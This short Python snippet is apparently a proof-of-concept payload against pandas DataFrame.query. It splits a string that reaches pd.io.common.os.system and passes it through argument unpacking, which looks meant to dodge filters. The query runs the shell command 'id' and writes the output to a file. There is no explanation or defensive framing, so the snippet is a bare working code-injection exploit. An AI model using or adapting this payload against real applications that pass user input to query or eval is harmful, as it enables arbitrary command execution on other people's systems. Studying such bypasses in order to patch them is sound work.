import pandas as pd
q = '@pd.io.common.os' + ".system('id>pf') == 0"
pd.DataFrame(*[{'a': [1]}]).query(*[q])
